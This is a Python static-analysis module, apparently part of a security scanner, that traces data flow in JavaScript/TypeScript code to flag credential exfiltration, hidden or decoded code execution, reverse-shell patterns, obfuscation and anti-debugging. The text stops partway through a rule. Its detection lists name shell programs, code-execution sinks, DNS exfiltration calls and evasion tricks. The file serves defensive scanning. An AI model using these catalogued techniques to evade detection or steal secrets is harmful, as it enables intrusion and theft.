"""Threat rules on tree-sitter's JavaScript/TypeScript trees, with a small data flow.

A scope is an outermost function (the callbacks inside it belong to it) or the program's own
statements. Names take labels from what they are assigned or called back with: a network
response (``fetch``, ``https.get``'s callback, ``.on("data")``), decoded bytes, a credential
file, the whole ``process.env``, a tool handler's parameters. A call of a function the file
names (``helper(x)``, ``this.helper(x)``) gives its parameters the arguments' labels and takes
the labels of what it returns, so a helper that reads and another that sends are one flow. A
sink (``eval``, ``Function``, ``vm``, ``child_process``, a request, an SQL string) whose
arguments carry a label is a flow from source to sink. Never runs anything.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

from mcpward._regex import compiled
from mcpward.vet._code.interface import (
    HOST_VARIABLES,
    NATIVE_LIBRARY,
    SCREEN_COMMAND,
    SINK_CALLS,
    Obfuscation,
    Threat,
    ThreatRule,
    ToolDeclaration,
    command_output_label,
    embedded_executable,
    named_techniques,
    names_credential_store,
    names_sensitive_path,
    runs_data,
)

LABEL_PASSES = 4
#: Objects that capture the screen (screenshot-desktop) or listen to the keyboard (iohook,
#: uiohook-napi), by the names they are usually given.
SCREEN_OBJECTS = frozenset({"screenshot", "screenshotDesktop", "screenshotdesktop", "takeScreenshot"})
KEYBOARD_OBJECTS = frozenset(
    {"iohook", "uiohook", "keylistener", "keyboardlistener", "globalkeyboardlistener"}
)
#: Calls that put a file in place, with the index of the argument naming where.
PLANTING_CALLS = {
    "writeFile": 0, "writeFileSync": 0, "copyFile": 1, "copyFileSync": 1, "rename": 1, "renameSync": 1,
    "cp": 1, "cpSync": 1, "createWriteStream": 0, "move": 1, "moveSync": 1, "outputFile": 0,
}  # fmt: skip
#: Nodes that can hand ``eval`` on as a value.
RUNNER_HOLDERS = frozenset(
    {"variable_declarator", "assignment_expression", "call_expression", "subscript_expression"}
)
#: ``const env = process.env`` (not ``process.env.X``), and how much of a file is searched.
_ENV_ALIAS = compiled(rb"\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*process\.env\s*(?:;|\n|$)")
MAX_ALIAS_SCAN = 4 * 1024 * 1024
#: The running program's own file.
SELF_PATHS = frozenset({"__filename", "process.argv[1]", "process.argv0", "require.main.filename"})
#: package.json install hooks.
INSTALL_HOOK_KEYS = frozenset({"preinstall", "postinstall"})
#: Prefix of the program-level names that hold what a named function returns.
RETURNS = "@returns:"
#: Modules whose ``require`` by a computed name hides what runs.
HIDDEN_MODULES = frozenset(
    {"child_process", "vm", "net", "fs", "http", "https", "os", "module", "worker_threads"}
)
MAX_SCOPE_NODES = 200_000
#: Nodes of one expression looked at for labels.
MAX_EXPRESSION_NODES = 500
FUNCTIONS = frozenset(
    {
        "arrow_function",
        "function_expression",
        "function_declaration",
        "function",
        "method_definition",
        "generator_function_declaration",
        "generator_function",
    }
)
NETWORK_CALLS = frozenset(
    {
        "fetch",
        "axios",
        "got",
        "needle",
        "superagent",
        "request",
        "http.get",
        "https.get",
        "http.request",
        "https.request",
        "undici.request",
        "net.connect",
        "net.createConnection",
        "tls.connect",
    }
)
NETWORK_METHODS = frozenset({"get", "post", "request", "put", "patch", "fetch"})
NETWORK_OBJECTS = frozenset({"axios", "got", "needle", "superagent", "http", "https", "undici", "ky"})
CODE_SINKS = frozenset(
    {
        "eval",
        "Function",
        "vm.runInThisContext",
        "vm.runInNewContext",
        "vm.runInContext",
        "vm.compileFunction",
        "vm.Script",
        "require",
        "import",
    }
)
PROCESS_NAMES = frozenset(
    {"exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "fork", "execa", "execaSync"}
)
SHELL_PROCESS = frozenset({"exec", "execSync"})
PROCESS_OBJECTS = frozenset({"child_process", "cp", "childProcess", "proc", "shell", "shelljs"})
WRITE_METHODS = frozenset(
    {
        "writeFile",
        "writeFileSync",
        "appendFile",
        "appendFileSync",
        "copyFile",
        "copyFileSync",
        "symlink",
        "symlinkSync",
        "chmod",
        "chmodSync",
        "rm",
        "rmSync",
        "unlink",
        "unlinkSync",
        "rename",
        "renameSync",
        "truncate",
        "truncateSync",
        "createWriteStream",
    }
)
SQL_METHODS = frozenset({"query", "execute", "raw", "prepare", "exec", "run", "all", "unsafe"})
TEMPLATE_SINKS = frozenset(
    {
        "ejs.render",
        "Handlebars.compile",
        "handlebars.compile",
        "_.template",
        "lodash.template",
        "nunjucks.renderString",
        "pug.render",
        "pug.compile",
    }
)
DECODING = frozenset(
    {
        "atob",
        "unescape",
        "String.fromCharCode",
        "String.fromCodePoint",
        "zlib.inflateSync",
        "zlib.gunzipSync",
        "zlib.unzipSync",
        "zlib.brotliDecompressSync",
        "zlib.inflateRawSync",
    }
)
FILE_READS = frozenset({"readFileSync", "readFile", "readdirSync", "readdir", "createReadStream"})
#: Node kinds the rules read; identifiers only as call arguments (a constant passed to a write).
KEPT = frozenset(
    {
        "variable_declarator",
        "assignment_expression",
        "augmented_assignment_expression",
        "call_expression",
        "new_expression",
        "subscript_expression",
        "debugger_statement",
        "string",
        "template_string",
        "binary_expression",
        "object",
        "return_statement",
    }
)
#: Lookups that carry data out in the name looked up.
DNS_SINKS = frozenset({"dns.lookup", "dns.resolve", "dns.resolve4", "dns.resolveTxt", "dns.promises.resolve"})
#: Values that carry no label: functions (their bodies are their own scopes), literals.
INERT_VALUES = FUNCTIONS | {"class", "number", "true", "false", "null", "undefined", "regex"}
#: Calls that turn the whole environment into data.
WHOLE_ENVIRONMENT_CALLS = frozenset(
    {
        "JSON.stringify",
        "Object.entries",
        "Object.values",
        "Object.assign",
        "String",
        "util.inspect",
    }
)
HOST_INFO = frozenset({"os.hostname", "os.userInfo", "os.networkInterfaces", "os.cpus"})
HIDDEN_NAMES = frozenset(
    {
        "eval",
        "Function",
        "exec",
        "execSync",
        "spawn",
        "spawnSync",
        "execFile",
        "execFileSync",
        "child_process",
        "mainModule",
        "binding",
        "runInThisContext",
        "runInNewContext",
        "fromCharCode",
        "hostname",
        "userInfo",
        "networkInterfaces",
    }
)
#: Ways to load a module that do not read as ``require``.
LOADERS = frozenset(
    {
        "process.binding",
        "process._linkedBinding",
        "process.mainModule.require",
        "module.constructor._load",
        "Module._load",
        "module.require",
    }
)
#: ``eval`` reached through the global object.
GLOBAL_EVAL = frozenset(f"{owner}.eval" for owner in ("global", "globalThis", "window", "self"))
#: Timers, which run a string they are given as code.
TIMERS = frozenset({"setTimeout", "setInterval", "setImmediate"})
#: JavaScript carried in a data: URL.
_JS_DATA_URL = compiled(r"\s*data:(?:text|application)/(?:x-)?(?:javascript|ecmascript)", re.IGNORECASE)
#: Calls that look a property up by a name given as data.
REFLECTION = frozenset(
    {"Reflect.get", "Reflect.apply", "Object.getOwnPropertyDescriptor", "Reflect.getOwnPropertyDescriptor"}
)
#: Calls that list an object's properties, so one can be picked by comparing names.
PROPERTY_LISTS = frozenset({"Object.keys", "Object.getOwnPropertyNames", "Object.entries", "Reflect.ownKeys"})
#: The global object under its names (``this`` left out: ``this[name]()`` is ordinary dispatch).
GLOBAL_NAMES = frozenset({"global", "globalThis", "window", "self"})
#: A string literal's source written in escapes (``"\x65\x76"``, ``"\u0065"``).
_ESCAPES = compiled(rb"\\(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|u\{[0-9a-fA-F]{1,6}\})")
GLOBAL_OBJECTS = frozenset({"global", "globalThis", "window", "self", "this", "process", "module", "Reflect"})
#: The names javascript-obfuscator gives: a package written by hand never has five of them.
_OBFUSCATOR_NAMES = compiled(rb"\b_0x[0-9a-f]{4,6}\b")
_CONSTRUCTOR_CHAIN = compiled(
    rb"""\.constructor\s*\.\s*constructor\b|\[\s*["']constructor["']\s*\]\s*\[\s*["']constructor["']\s*\]"""
)
#: Bytes of a file searched for those marks.
MAX_TEXT_BYTES = 4 * 1024 * 1024
SHELL_PROGRAM = (
    "/bin/sh",
    "/bin/bash",
    "sh",
    "bash",
    "zsh",
    "cmd.exe",
    "cmd",
    "powershell",
    "powershell.exe",
    "pwsh",
)


@dataclass(slots=True, eq=False)
class _Scope:
    """One function (or the program): its own nodes, not those of the functions inside it."""

    parent: _Scope | None = None
    nodes: list[Any] = field(default_factory=list)
    declared: set[str] = field(default_factory=set)
    labels: dict[str, set[str]] = field(default_factory=dict)
    origins: dict[str, str] = field(default_factory=dict)
    #: The name the function is declared or assigned under, if any; its parameters by
    #: position; an arrow function's expression body (what it returns).
    name: str | None = None
    positions: list[list[str]] = field(default_factory=list)
    returned: Any = None
    node: Any = None

    def lookup(self, name: str, local: bool = False) -> set[str]:
        found: set[str] = set()
        scope: _Scope | None = self
        hops = 0
        while scope is not None and hops < (1 if local else 64):
            found |= scope.labels.get(name, set())
            if name in scope.declared:
                break
            scope, hops = scope.parent, hops + 1
        return found

    def origin(self, label: str, default: str) -> str:
        scope: _Scope | None = self
        hops = 0
        while scope is not None and hops < 64:
            if label in scope.origins:
                return scope.origins[label]
            scope, hops = scope.parent, hops + 1
        return default

    def owner(self, name: str) -> _Scope:
        """The scope that declares ``name`` (an assignment writes there), else this one."""
        scope: _Scope | None = self
        hops = 0
        while scope is not None and hops < 64:
            if name in scope.declared:
                return scope
            scope, hops = scope.parent, hops + 1
        return self


@dataclass(frozen=True, slots=True)
class _Read:
    """A value read in another scope than the one it is written to (a callback's parameter)."""

    scope: _Scope
    node: Any
    #: The call it crosses into another function by, for the flow's text.
    step: str | None = None


class JavaScriptThreats:
    def __init__(
        self,
        path: str,
        source: bytes,
        root: Any,
        fold: Callable[[Any], str | None],
        name: Callable[[Any], str],
        expired: Callable[[], bool],
    ) -> None:
        self.path = path
        self.source = source
        self.root = root
        self.fold = fold
        self.name = name
        self.expired = expired
        self.threats: list[Threat] = []
        self.tools: list[ToolDeclaration] = []
        self._seen: set[tuple[ThreatRule, int]] = set()
        self._shell_parts: dict[int, set[str]] = {}
        self._host_commands: dict[int, set[str]] = {}
        self.obfuscation: list[Obfuscation] = []
        self.named: dict[str, list[_Scope]] = {}
        self.program = _Scope()
        #: Names bound to ``process.env`` itself (``const env = process.env``): taken whole
        #: like it, read by one field (``env.TOKEN``) like one variable.
        self.env_aliases = frozenset(
            m.group(1).decode() for m in _ENV_ALIAS.finditer(source[:MAX_ALIAS_SCAN]) if len(m.group(1)) < 64
        )

    def run(self) -> None:
        self._source_texts()
        scopes = self._scopes()
        if scopes is None:
            return
        self._label(scopes)
        for scope in scopes:
            if self.expired():
                return
            self._sinks(scope)
            self._texts(scope)

    def _source_texts(self) -> None:
        """Marks found faster in the text than in the tree: obfuscator names, the Function
        constructor reached through ``constructor.constructor``."""
        names = {m.group(0) for m in _OBFUSCATOR_NAMES.finditer(self.source[:MAX_TEXT_BYTES])}
        if len(names) >= 5:
            line = self.source.count(b"\n", 0, self.source.find(min(names))) + 1
            self.obfuscation.append(
                Obfuscation(f"{len(names)} javascript-obfuscator names (_0x…)", self.path, line)
            )
        match = _CONSTRUCTOR_CHAIN.search(self.source[:MAX_TEXT_BYTES])
        if match is not None:
            line = self.source.count(b"\n", 0, match.start()) + 1
            self._add(
                ThreatRule.HIDDEN_CODE_RUN,
                f"the Function constructor via constructor.constructor (line {line})",
                line,
            )

    # -- scopes ------------------------------------------------------------------------------

    def _scopes(self) -> list[_Scope] | None:
        """Every function's own nodes of the kinds the rules read, in one cursor walk (node
        lists of a whole bundle would cost seconds and hundreds of megabytes)."""
        program = _Scope()
        self.program = program
        scopes = [program]
        self.function_scopes: dict[int, _Scope] = {}
        cursor = self.root.walk()
        stack: list[tuple[int, _Scope]] = [(-1, program)]
        parents: list[str] = []
        depth = count = 0
        while True:
            node = cursor.node
            kind = node.type
            count += 1
            if count % 4096 == 0 and self.expired():
                return None
            while stack[-1][0] >= depth:
                stack.pop()
            scope = stack[-1][1]
            if kind in FUNCTIONS:
                inner = _Scope(parent=scope)
                scopes.append(inner)
                self.function_scopes[node.id] = inner
                inner.declared.update(_parameters(node))
                self._name_function(node, inner)
                stack.append((depth, inner))
            elif len(scope.nodes) < MAX_SCOPE_NODES and (
                kind in KEPT or (kind == "identifier" and parents and parents[-1] == "arguments")
            ):
                scope.nodes.append(node)
                if kind == "variable_declarator":
                    scope.declared.update(_identifiers(node.child_by_field_name("name")))
            if cursor.goto_first_child():
                parents.append(kind)
                depth += 1
                continue
            while not cursor.goto_next_sibling():
                if not cursor.goto_parent():
                    return scopes
                parents.pop()
                depth -= 1

    def _name_function(self, node: Any, scope: _Scope) -> None:
        """``function f(a, b)``, ``const f = (a) => ...``, a method ``f(a) {...}``: calls of
        ``f`` reach this scope."""
        name_node = node.child_by_field_name("name")
        parent = node.parent
        if name_node is None and parent is not None and parent.type == "variable_declarator":
            name_node = parent.child_by_field_name("name")
        if name_node is None or name_node.type not in ("identifier", "property_identifier"):
            return
        scope.name = _text(name_node)
        scope.node = node
        single = node.child_by_field_name("parameter")
        parameters = node.child_by_field_name("parameters")
        if single is not None:
            scope.positions = [_identifiers(single)]
        elif parameters is not None:
            scope.positions = [_identifiers(p) for p in parameters.named_children if p.type != "comment"]
        body = node.child_by_field_name("body")
        if body is not None and body.type != "statement_block":
            scope.returned = body
        self.named.setdefault(scope.name, []).append(scope)

    def _callees(self, function: Any) -> list[_Scope]:
        """The functions of this file a call reaches: ``f(...)``, ``this.f(...)``."""
        if function is None:
            return []
        if function.type == "identifier":
            return self.named.get(_text(function), [])[:8]
        if function.type == "member_expression":
            owner = function.child_by_field_name("object")
            prop = function.child_by_field_name("property")
            if owner is not None and owner.type == "this" and prop is not None:
                return self.named.get(_text(prop), [])[:8]
        return []

    # -- labels ------------------------------------------------------------------------------

    def _label(self, scopes: list[_Scope]) -> None:
        #: (scope the value is read in, names written, the value or its labels)
        assignments: list[tuple[_Scope, list[str], Any]] = []
        called = self._called(scopes)
        for scope in scopes:
            if scope.name not in called:
                scope.name = None  # what it returns goes nowhere
            if scope.name is not None and _carries(scope.returned):
                assignments.append((self.program, [RETURNS + scope.name], _Read(scope, scope.returned)))
            for node in scope.nodes:
                kind = node.type
                if kind == "variable_declarator":
                    target, value = node.child_by_field_name("name"), node.child_by_field_name("value")
                    if target is not None and value is not None:
                        assignments.append((scope, _identifiers(target), value))
                elif kind in ("assignment_expression", "augmented_assignment_expression"):
                    left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
                    if left is not None and right is not None:
                        assignments.append((scope, _identifiers(_root_object(left)), right))
                elif kind == "return_statement" and scope.name is not None and node.named_children:
                    value = node.named_children[0]
                    if _carries(value):
                        assignments.append((self.program, [RETURNS + scope.name], _Read(scope, value)))
                elif kind == "call_expression":
                    self._callbacks(scope, node, assignments)
                    self._call_arguments(scope, node, assignments)
        # the first pass reads every value and notes the names each one reads; a later pass
        # reads again only the values that read a name the pass before gave new labels
        reads: list[set[str]] = [set() for _ in assignments]
        changed_names: set[str] | None = None
        for _ in range(LABEL_PASSES):
            changed: set[str] = set()
            for count, (scope, targets, value) in enumerate(assignments):
                if count % 4096 == 0 and self.expired():
                    return
                if changed_names is not None and reads[count].isdisjoint(changed_names):
                    continue
                if isinstance(value, set):
                    labels = value
                elif not isinstance(value, _Read) and value.type in INERT_VALUES:
                    continue
                elif isinstance(value, _Read):
                    labels = self._labels_of(value.scope, value.node, reads=reads[count])
                else:
                    labels = self._labels_of(scope, value, reads=reads[count])
                if not labels:
                    continue
                for target in targets:
                    owner = scope.owner(target)
                    known = owner.labels.setdefault(target, set())
                    if not labels <= known:
                        if isinstance(value, _Read) and value.step is not None:
                            for label in labels - known:
                                owner.origins.setdefault(
                                    label, f"{value.scope.origin(label, label)} -> {value.step}"
                                )
                        known |= labels
                        changed.add(target)
            if not changed:
                break
            changed_names = changed

    def _called(self, scopes: list[_Scope]) -> set[str]:
        """Names of this file's functions that some call reaches."""
        called: set[str] = set()
        for scope in scopes:
            for node in scope.nodes:
                if node.type == "call_expression":
                    for callee in self._callees(node.child_by_field_name("function")):
                        if callee.name is not None:
                            called.add(callee.name)
        return called

    def _call_arguments(
        self, scope: _Scope, call: Any, assignments: list[tuple[_Scope, list[str], Any]]
    ) -> None:
        """``helper(a, b)``: helper's parameters take the labels of ``a`` and ``b``."""
        callees = self._callees(call.child_by_field_name("function"))
        arguments = call.child_by_field_name("arguments")
        if not callees or arguments is None:
            return
        args = [a for a in arguments.named_children if a.type != "comment"]
        for callee in callees:
            if callee is scope:
                continue
            step = f"{callee.name}() (line {call.start_point[0] + 1})"
            for names, argument in zip(callee.positions, args, strict=False):
                if not names or argument.type in INERT_VALUES:
                    continue
                if argument.type == "string" and not names_credential_store(self.fold(argument) or ""):
                    continue  # a plain literal carries no label
                assignments.append((callee, names, _Read(scope, argument, step)))

    def _callbacks(self, scope: _Scope, call: Any, assignments: list[tuple[_Scope, list[str], Any]]) -> None:
        """Parameters a call hands to its callbacks: a response (``https.get(u, res => ..)``,
        ``.then(r => ..)``, ``.on("data", chunk => ..)``), or a tool's arguments."""
        function = call.child_by_field_name("function")
        arguments = call.child_by_field_name("arguments")
        if function is None or arguments is None:
            return
        callee = self.name(function)
        callbacks = [a for a in arguments.named_children if a.type in FUNCTIONS]
        if not callbacks:
            return
        last = callee.rsplit(".", 1)[-1]
        line = call.start_point[0] + 1
        if self._is_network_call(callee):
            for callback in callbacks:
                inner = self.function_scopes.get(callback.id, scope)
                inner.origins.setdefault("network", f"{callee}() (line {line})")
                assignments.append((inner, _parameters(callback), {"network"}))
        elif last in ("then", "on", "once") and function.type == "member_expression":
            owner = function.child_by_field_name("object")
            if owner is not None:
                for callback in callbacks:
                    inner = self.function_scopes.get(callback.id, scope)
                    assignments.append((inner, _parameters(callback), _Read(scope, owner)))
        elif last in ("tool", "registerTool", "setRequestHandler") and function.type == "member_expression":
            handler = callbacks[-1]
            inner = self.function_scopes.get(handler.id, scope)
            inner.origins.setdefault("param", f"a tool handler's arguments (line {line})")
            assignments.append((inner, _parameters(handler), {"param"}))
            self._tool(call, callee, handler, line)

    def _tool(self, call: Any, callee: str, handler: Any, line: int) -> None:
        arguments = [a for a in call.child_by_field_name("arguments").named_children if a.type != "comment"]
        if callee.endswith("setRequestHandler") or not arguments:
            return
        tool_name = self.fold(arguments[0]) or "?"
        description = ""
        if len(arguments) > 2 and arguments[1].type in ("string", "template_string"):
            description = self.fold(arguments[1]) or ""
        else:
            for argument in arguments[1:]:
                if argument.type == "object":
                    description = self._pair(argument, "description") or description
        self.tools.append(
            ToolDeclaration(tool_name, description, self.path, line, tuple(self._uses(handler)))
        )

    def _pair(self, obj: Any, key: str) -> str | None:
        for pair in obj.named_children:
            if pair.type == "pair":
                name = pair.child_by_field_name("key")
                if name is not None and (self.fold(name) or _text(name)) == key:
                    value = pair.child_by_field_name("value")
                    return self.fold(value) if value is not None else None
        return None

    def _uses(self, handler: Any) -> Iterator[tuple[str, str, int]]:
        for node in _walk(handler, MAX_SCOPE_NODES):
            line = node.start_point[0] + 1
            if node.type in ("call_expression", "new_expression"):
                function = node.child_by_field_name("function") or node.child_by_field_name("constructor")
                callee = self.name(function)
                if self._is_process(callee):
                    yield ("process-spawn", callee, line)
                elif callee.split(".", 1)[0] in ("clipboardy", "screenshot", "screenshotDesktop", "robot"):
                    yield ("screen-or-clipboard", callee, line)
            elif node.type == "string":
                value = self.fold(node)
                if value and names_sensitive_path(value):
                    yield ("sensitive-files", value[:80], line)

    def _is_network_call(self, callee: str) -> bool:
        if callee in NETWORK_CALLS:
            return True
        owner, _, method = callee.rpartition(".")
        return owner.rsplit(".", 1)[-1] in NETWORK_OBJECTS and method in NETWORK_METHODS

    def _is_process(self, callee: str) -> bool:
        owner, _, method = callee.rpartition(".")
        if method in PROCESS_NAMES and owner.rsplit(".", 1)[-1] in PROCESS_OBJECTS:
            return True
        return callee in ("execSync", "spawnSync", "execa", "execaSync", "execFileSync", "spawn", "exec")

    def _labels_of(
        self, scope: _Scope, node: Any, local: bool = False, reads: set[str] | None = None
    ) -> set[str]:
        """The labels an expression carries; ``reads`` collects the names it looks up."""
        found: set[str] = set()
        whole: set[int] = set()
        for child in _walk(node, MAX_EXPRESSION_NODES, skip=FUNCTIONS):
            kind = child.type
            if kind in ("identifier", "shorthand_property_identifier"):
                name = _text(child)
                found |= scope.lookup(name, local)
                if reads is not None:
                    reads.add(name)
            elif kind == "spread_element":
                whole.update(c.id for c in child.named_children)
            elif kind in ("call_expression", "new_expression"):
                if self.name(child.child_by_field_name("function")) in WHOLE_ENVIRONMENT_CALLS:
                    arguments = child.child_by_field_name("arguments")
                    if arguments is not None:
                        whole.update(c.id for c in arguments.named_children)
                function = child.child_by_field_name("function") or child.child_by_field_name("constructor")
                label = self._source(child, self.name(function))
                if label is not None:
                    found.add(label)
                    scope.origins.setdefault(
                        label, f"{self.name(function)}() (line {child.start_point[0] + 1})"
                    )
                for callee in self._callees(function) if kind == "call_expression" else ():
                    if callee.name is None:
                        continue
                    returned = self.program.labels.get(RETURNS + callee.name, set())
                    if reads is not None:
                        reads.add(RETURNS + callee.name)
                    for new in returned - found:
                        scope.origins.setdefault(
                            new,
                            f"{callee.origin(new, new)} -> returned by {callee.name}() "
                            f"(line {child.start_point[0] + 1})",
                        )
                    found |= returned
            if (
                kind == "member_expression"
                and child.end_byte - child.start_byte == len("process.env")
                and (child.id in whole or _taken_whole(child))
                and _text(child) == "process.env"
            ) or (
                kind == "identifier"
                and self.env_aliases
                and _text(child) in self.env_aliases
                and (child.id in whole or _taken_whole(child))
            ):
                found.add("environment")
                scope.origins.setdefault("environment", f"process.env (line {child.start_point[0] + 1})")
            elif kind == "member_expression" and child.end_byte - child.start_byte < 40:
                text = _text(child)
                if text.startswith("process.env.") and text[len("process.env.") :] in HOST_VARIABLES:
                    found.add("host-info")
                    scope.origins.setdefault("host-info", f"{text} (line {child.start_point[0] + 1})")
            elif kind == "string":
                value = self.fold(child)
                if value and names_credential_store(value):
                    found.add("secret-path")
                    scope.origins.setdefault(
                        "secret-path", f"{value[:60]!r} (line {child.start_point[0] + 1})"
                    )
        if "secret-path" in found and self._reads(node):
            found.add("secret")
            scope.origins.setdefault("secret", scope.origin("secret-path", "a credential file"))
        return found

    def _source(self, call: Any, callee: str) -> str | None:
        if self._is_network_call(callee):
            return "network"
        if callee in DECODING:
            return "decoded"
        if callee in HOST_INFO or callee.startswith("clipboardy."):
            return "host-info"
        arguments = call.child_by_field_name("arguments")
        args = [a for a in arguments.named_children if a.type != "comment"] if arguments is not None else []
        if self._is_process(callee) and args:
            label = command_output_label(self._command_text(args))
            if label is not None:
                return label
        if callee.endswith((".fromCharCode.apply", ".fromCharCode.call", ".fromCodePoint.apply")):
            return "decoded"
        if "steg" in callee.lower() or callee.endswith((".reveal", ".reveal()")):
            return "decoded"  # a message hidden in an image
        if callee.endswith(".reverse().join") or (
            callee == "Buffer.from" and args and args[0].type == "array"
        ):
            return "decoded"  # text read backwards; bytes from a list of numbers
        if callee == "Buffer.from":
            arguments = call.child_by_field_name("arguments")
            args = arguments.named_children if arguments is not None else []
            if len(args) > 1 and (self.fold(args[1]) or "").lower() in ("base64", "hex", "base64url"):
                return "decoded"
        return None

    def _program(self, node: Any) -> str | None:
        """The program a command starts when its start is fixed text (``"git"``, ```git
        remote add ${name}```, ``"git " + x``); None when the command is all data."""
        head = node
        hops = 0
        while head is not None and head.type == "binary_expression" and hops < 64:
            head, hops = head.child_by_field_name("left"), hops + 1
        if head is not None and head.type == "template_string":
            parts = [c for c in head.named_children]
            value = _text(parts[0]) if parts and parts[0].type == "string_fragment" else None
            partial = len(parts) > 1
        else:
            value = self.fold(head) if head is not None else None
            partial = head is not node
        if not value or not value.split():
            return None
        if not partial or " " in value.lstrip():
            return value.split()[0]
        return None

    def _command_text(self, args: list[Any]) -> str:
        """A command as text: ``execSync("whoami")``, ``spawn("security", ["dump-keychain"])``."""
        parts = [self.fold(args[0]) or "x"]
        if len(args) > 1 and args[1].type == "array":
            parts.extend((self.fold(item) or "x") for item in args[1].named_children[:32])
        return " ".join(parts)

    def _reads(self, node: Any) -> bool:
        for child in _walk(node, MAX_EXPRESSION_NODES):
            if child.type == "call_expression":
                callee = self.name(child.child_by_field_name("function"))
                if callee.rsplit(".", 1)[-1] in FILE_READS:
                    return True
        return False

    # -- sinks -------------------------------------------------------------------------------

    def _sinks(self, scope: _Scope) -> None:
        top = scope
        while top.parent is not None and top.parent.parent is not None:
            top = top.parent
        # a socket, a shell and a pipe meet in one outermost function, callbacks included
        marks = self._shell_parts.setdefault(id(top), set())
        for node in scope.nodes:
            if node.type == "object":
                self._tool_object(node)
                self._planted_hook(scope, node)
                continue
            if node.type in RUNNER_HOLDERS:
                self._code_runner_as_value(node)
            if node.type == "subscript_expression":
                self._hidden_subscript(node)
            elif node.type == "string" and node.end_byte - node.start_byte >= 66:
                carried = embedded_executable(self.fold(node) or "")
                if carried is not None:
                    self.obfuscation.append(
                        Obfuscation(
                            f"{carried} carried in a literal (line {node.start_point[0] + 1})",
                            self.path,
                            node.start_point[0] + 1,
                        )
                    )
            if node.type not in ("call_expression", "new_expression"):
                if node.type == "debugger_statement" and self._in_loop(node):
                    line = node.start_point[0] + 1
                    self._add(
                        ThreatRule.DEFENCE_EVASION, f"anti-debugging: debugger in a loop (line {line})", line
                    )
                continue
            function = node.child_by_field_name("function") or node.child_by_field_name("constructor")
            callee = self.name(function)
            arguments = node.child_by_field_name("arguments")
            args = (
                [a for a in arguments.named_children if a.type != "comment"] if arguments is not None else []
            )
            line = node.start_point[0] + 1
            last = callee.rsplit(".", 1)[-1]
            self._capture(scope, callee, last, args, line)
            if last in PLANTING_CALLS and len(args) > PLANTING_CALLS[last]:
                where = args[PLANTING_CALLS[last]]
                planted = self.fold(where) or self._joined_dll(where) or ""
                if NATIVE_LIBRARY.search(planted.strip()) or planted.startswith("<a folder"):
                    self._add(
                        ThreatRule.DEFENCE_EVASION,
                        f"a native library planted: {planted[-60:]!r} written by {callee}() (line {line})",
                        line,
                        False,
                    )
            if last in ("copyFile", "copyFileSync", "cp", "cpSync") and args and _text(args[0]) in SELF_PATHS:
                self._add(
                    ThreatRule.SELF_PROPAGATION,
                    f"{callee}() copies the running program elsewhere (line {line})",
                    line,
                    False,
                )
            self._reflected(scope, node, function, callee, args, line)
            labels: set[str] = set()
            if self._may_sink(callee, last):  # the labels of every call's arguments cost seconds
                for argument in args:
                    labels |= self._labels_of(scope, argument)
            if callee in ("net.connect", "net.createConnection", "tls.connect", "net.Socket") or (
                last == "connect" and "network" in labels
            ):
                marks.add("socket")
                marks.add(f"socket-at:{callee} (line {line})")
            if last == "pipe":
                marks.add("pipe")
            if (
                callee in LOADERS
                and args
                and self.fold(args[0]) in HIDDEN_MODULES | {"spawn_sync", "process_wrap"}
            ):
                self._add(
                    ThreatRule.HIDDEN_CODE_RUN,
                    f"{callee}({self.fold(args[0])!r}): a module loaded past require (line {line})",
                    line,
                )
            if callee in TIMERS and args and _text_like(args[0], self.name):
                # setTimeout("code", ms): a string timer is eval; only downloaded or decoded text
                # counts (what a call returns may as well be a function)
                labels = self._labels_of(scope, args[0], local=True) & {"decoded", "network"}
                self._code_sink(scope, callee, line, labels)
            if callee in GLOBAL_EVAL:
                callee = "eval"  # global.eval(code), window["eval"] is eval
            if callee in CODE_SINKS or (
                callee.startswith("vm.") and last in ("runInThisContext", "runInNewContext")
            ):
                first = args[-1] if callee == "Function" and args else args[0] if args else None
                if (
                    callee in ("import", "require")
                    and first is not None
                    and _JS_DATA_URL.match(self.fold(first) or "")
                ):
                    self._add(
                        ThreatRule.DECODED_CODE_RUN,
                        f"code in a data: URL -> {callee}() (line {line})",
                        line,
                    )
                    continue
                if (
                    callee == "require"
                    and first is not None
                    and (first.type != "string" or _escaped(first))
                    and self.fold(first) in HIDDEN_MODULES
                ):
                    self._add(
                        ThreatRule.HIDDEN_CODE_RUN,
                        f"require({self.fold(first)!r}) by a computed name (line {line})",
                        line,
                    )
                    continue
                if first is not None and _escaped(first) and callee in ("eval", "Function"):
                    self._add(
                        ThreatRule.DECODED_CODE_RUN,
                        f"code written in escapes -> {callee}() (line {line})",
                        line,
                    )
                    continue
                if (
                    first is not None
                    and callee in ("eval", "Function")
                    and first.type not in ("string", "template_string")
                    and _code_like(self.fold(first))
                ):
                    self._add(
                        ThreatRule.DECODED_CODE_RUN,
                        f"code assembled from pieces -> {callee}() (line {line})",
                        line,
                    )
                if first is None or (
                    first.type in ("string", "template_string") and self.fold(first) is not None
                ):
                    continue
                if _unpacker(first):
                    self._add(
                        ThreatRule.DECODED_CODE_RUN,
                        f"code unpacked by an inline function -> {callee}() (line {line})",
                        line,
                    )
                labels = self._labels_of(scope, first)
                if "decoded" in labels and "network" not in labels:
                    # decoding is everywhere in bundles: only a decode in the same function counts
                    labels = self._labels_of(scope, first, local=True)
                self._code_sink(scope, callee, line, labels)
            elif self._is_process(callee):
                first = args[0] if args else None
                if first is not None and (self.fold(first) or "").strip() in SHELL_PROGRAM:
                    marks.add("shell")
                    marks.add(f"shell-at:{callee}('{(self.fold(first) or '').strip()}') (line {line})")
                self._process_sink(scope, callee, args, line, labels)
            elif last in WRITE_METHODS and last.startswith("chmod") and len(args) > 1:
                mode = _text(args[1])
                try:
                    value = int(mode, 0) if mode[:2].lower() in ("0o", "0x") else int(mode, 8)
                except ValueError:
                    value = 0
                if value & 0o6000 and value < 0o10000:
                    self._add(
                        ThreatRule.PRIVILEGE_ESCALATION,
                        f"{callee}() sets a setuid/setgid bit (line {line})",
                        line,
                    )
            if (
                last.lower() in SINK_CALLS
                or callee in DNS_SINKS
                or (last in ("write", "end") and self._network_object(scope, function))
            ):
                leaked = labels & {"secret", "environment"}
                if leaked and callee not in CODE_SINKS and not self._is_process(callee):
                    label = sorted(leaked)[0]
                    self._add(
                        ThreatRule.CREDENTIAL_EXFILTRATION,
